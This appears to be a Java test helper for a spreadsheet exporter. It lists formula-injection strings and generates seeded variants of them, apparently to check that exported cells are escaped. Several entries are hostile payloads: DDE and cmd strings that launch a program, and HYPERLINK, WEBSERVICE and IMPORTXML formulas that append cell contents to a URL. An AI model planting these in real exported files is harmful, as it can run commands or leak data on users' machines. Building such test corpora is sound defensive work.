package ziping.export.excel;

import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;

/** Texts a spreadsheet program might take for a formula, a command or an escape. */
public final class FormulaLike {

    private static final List<String> KNOWN =
            List.of(
                    "=1+1",
                    "+1+1",
                    "-1+1",
                    "@SUM(A1:A9)",
                    "=cmd|' /C calc'!A0",
                    "=HYPERLINK(\"http://example.org/?\"&A1,\"点我\")",
                    "=DDE(\"cmd\";\"/C calc\";\"x\")",
                    "=WEBSERVICE(\"http://example.org\")",
                    "+86-871-63333333",
                    "-5",
                    "=",
                    "==",
                    "=\"\"",
                    "'=1+1",
                    "\t=1+1",
                    " =1+1",
                    "\n=1+1",
                    "＝1+1",
                    "＋1",
                    "{=1+1}",
                    "@",
                    "-",
                    "1e5",
                    "0012",
                    "1/2",
                    "TRUE",
                    "#REF!",
                    "2019-12-30",
                    "_x003D_1+1",
                    "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")");

    private FormulaLike() {}

    /** That many: the known ones, then random mixtures; always the same. */
    public static List<String> strings(int count) {
        Random random = new Random(12);
        return IntStream.range(0, count)
                .mapToObj(i -> i < KNOWN.size() ? KNOWN.get(i) : mixture(random))
                .toList();
    }

    private static String mixture(Random random) {
        String sign = List.of("=", "+", "-", "@", "\t=", "").get(random.nextInt(6));
        return sign + KNOWN.get(random.nextInt(KNOWN.size())) + random.nextInt(1000);
    }
}
